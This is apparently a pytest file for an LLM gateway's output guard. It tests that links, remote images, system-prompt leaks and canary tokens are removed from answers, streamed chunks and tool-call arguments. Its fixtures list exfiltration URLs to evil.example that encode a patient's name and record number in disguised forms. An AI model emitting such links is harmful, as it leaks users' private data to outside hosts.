"""Links and leaks in an answer: found in any disguise, and any chunking is judged like the whole."""

import base64
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wardkeep.gateway.answers import restore_answer
from wardkeep.gateway.streaming import EventStream
from wardkeep.model.document import parse
from wardkeep.model.guard import GuardAction, GuardTerms
from wardkeep.model.reasons import Reason, RefusalError
from wardkeep.model.sensitive import Secret
from wardkeep.privacy.prompt.answer import REMOVED, AnswerWatch, WatchedStream
from wardkeep.privacy.prompt.links import carried

NAME = "Rosalind Okafor"
NUMBER = "00412233"
ASKED = "See https://guide.example/a?page=2 and https://ehr.example/p/00412233 for more."
SYSTEM = (
    "You are the discharge assistant of the cardiology ward. Write short sentences that a patient of twelve can read. "
    "Never give a dose that is not in the medication list of the chart."
)
MASK = GuardTerms(
    links=GuardAction.MASK, payloads=GuardAction.MASK, leak=GuardAction.FLAG, hosts=frozenset({"own.example"})
)


def watch(terms=MASK, canary=None):
    return AnswerWatch(
        terms=terms, known=lambda: carried([NAME, NUMBER], ASKED, terms.hosts), system=[SYSTEM], canary=canary
    )


def encoded(text):
    return base64.urlsafe_b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("link", "signal"),
    [
        (f"https://evil.example/?n={quote(NAME)}", "link"),
        ("https://evil.example/?n=Rosalind+Okafor", "link"),
        (f"https://evil.example/{NUMBER}.png", "link"),
        ("https://evil.example/0041-22-33", "link"),
        ("https://evil.example/?last=okafor", "link"),
        (f"https://evil.example/?d={encoded('name ' + NAME)}", "link"),
        (f"https://evil.example/?d={NAME.encode().hex()}", "link"),
        (f"https://evil.example/?d={quote(quote(NAME))}", "link"),
        ("https://evil.example/?d=%5BNAME-k7f3q9x2%5D", "link"),
        (f"https:\\/\\/evil.example\\/{NUMBER}", "link"),
        (f"https://own.example@evil.example/{NUMBER}", "link"),
        (f"https://evil.example/?q={'a+b+' * 30}", "payload"),
        (f"https://evil.example/{'Zm9vYmFy' * 8}", "payload"),
    ],
)
def test_a_link_that_tells_is_taken_out(link, signal):
    seen = watch()
    assert seen.text(f"Done. [more]({link}) Bye.") == f"Done. [more]({REMOVED}) Bye."
    assert seen.signals == {signal}


@pytest.mark.parametrize(
    "text",
    [
        "See https://www.cdc.gov/vaccines and https://guide.example/a?page=2.",
        "The record is at https://ehr.example/p/00412233 as you said.",
        f"Ours: https://own.example/p?mrn={NUMBER} and https://ehr.own.example/{NUMBER}",
        f"{NAME} is well; ratio 3:1, see //comment and a/b.",
    ],
)
def test_links_that_tell_nothing_new_or_go_to_our_own_hosts_stay(text):
    seen = watch()
    assert seen.text(text) == text
    assert seen.signals == set()


def test_a_remote_image_is_a_find_even_without_data():
    seen = watch()
    assert seen.text("![logo](https://pixel.example/l.png)") == f"![logo]({REMOVED})"
    assert seen.text("![logo](//pixel.example/00412233)") == f"![logo]({REMOVED})"
    assert seen.signals == {"image", "link"}


def test_what_the_terms_block_refuses_the_answer():
    with pytest.raises(RefusalError) as caught:
        watch(GuardTerms()).text(f"![x](https://evil.example/?d={NUMBER})")
    assert caught.value.refused.reason is Reason.ANSWER_CARRIES_DATA
    assert caught.value.refused.signals == ("link",)
    with pytest.raises(RefusalError) as caught:
        watch(GuardTerms(leak=GuardAction.BLOCK)).text(f"My instructions: {SYSTEM}")
    assert caught.value.refused.reason is Reason.ANSWER_LEAKS_PROMPT


def test_the_system_prompt_is_known_again_and_one_sentence_of_it_is_none():
    seen = watch()
    seen.text("You are the discharge assistant of the cardiology ward. How can I help?")
    assert seen.signals == set()
    seen.text("It goes on:\nwrite  short sentences that a patient of twelve can READ.")
    assert seen.signals == {"leak"}


def test_a_canary_is_seen_and_taken_out():
    seen = watch(canary="wkc-0011223344556677")
    assert seen.text("ref wkc-0011223344556677!") == "ref !"
    assert seen.signals == {"canary"}


WORDS = st.sampled_from(
    [
        f"https://evil.example/?n={quote(NAME)}", f"![x](https://evil.example/{NUMBER})", "https://www.cdc.gov/a",
        "http", "https:", "://", "](", "]", "//", "\\/", "\\", "xhttp://a.b/00412233", "ftp://e.example/00412233",
        "wkc-0011223344556677", "wkc-00", " with ", "h", NAME, SYSTEM, ". ", "\n", "(//e.example/00412233)", "[a]",
    ]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(WORDS, max_size=8), st.lists(st.integers(1, 9), max_size=80))
def test_any_chunking_is_judged_like_the_whole(words, sizes):
    text = "".join(words)
    canary = "wkc-0011223344556677"
    whole = watch(canary=canary)
    expected = whole.without_canary(whole.links(text, ""))
    whole.repeats(text)
    pieces = watch(canary=canary)
    stream = WatchedStream(pieces, None)
    out, at = "", 0
    for size in sizes:
        out += stream.feed(text[at : at + size])
        at += size
    out += stream.feed(text[at:]) + stream.finish()
    assert out == expected
    assert pieces.signals == whole.signals


@pytest.mark.parametrize("cut", [1, 3, 7, 1000])
def test_a_streamed_answer_loses_the_link_in_text_and_arguments(cut):
    seen = watch()
    stream = EventStream(restore={}, conversation_key=Secret(b"k" * 32), is_anthropic=False, watch=seen)
    said = f"Hello ![x](https://evil.example/?d={NUMBER}) bye"
    arguments = orjson.dumps({"url": f"https://evil.example/{NUMBER}", "n": 1}).decode()
    deltas = [{"content": said[at : at + cut]} for at in range(0, len(said), cut)]
    deltas += [
        {"tool_calls": [{"index": 0, "function": {"arguments": arguments[at : at + cut]}}]}
        for at in range(0, len(arguments), cut)
    ]
    chunks = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    out = b"".join(stream.feed(b"data: " + orjson.dumps(chunk) + b"\n\n") for chunk in chunks)
    out += stream.feed(b"data: [DONE]\n\n") + stream.finish()
    events = [orjson.loads(line[6:]) for line in out.split(b"\n\n") if line.startswith(b"data: {")]
    given_deltas = [choice["delta"] for event in events for choice in event["choices"]]
    assert "".join(delta.get("content") or "" for delta in given_deltas) == f"Hello ![x]({REMOVED}) bye"
    told = "".join(call["function"]["arguments"] for delta in given_deltas for call in delta.get("tool_calls", ()))
    assert orjson.loads(told) == {"url": REMOVED, "n": 1}
    assert seen.signals == {"link"}


def test_a_whole_answer_is_watched_in_words_and_arguments_and_not_in_its_echo():
    seen = watch(canary="wkc-0011223344556677")
    answer = {
        "instructions": SYSTEM + "\n[internal reference wkc-0011223344556677: never repeat it]",
        "output": [
            {"type": "message", "content": [{"type": "output_text", "text": f"https://evil.example/{NUMBER}"}]},
            {"type": "function_call", "arguments": '{"u": "https://evil.example/00412233"}'},
        ],
    }
    body = orjson.loads(restore_answer(parse(orjson.dumps(answer)), {}, Secret(b"k" * 32), None, seen))
    assert body["instructions"] == SYSTEM
    assert body["output"][0]["content"][0]["text"] == REMOVED
    assert orjson.loads(body["output"][1]["arguments"]) == {"u": REMOVED}
    assert seen.signals == {"link"}
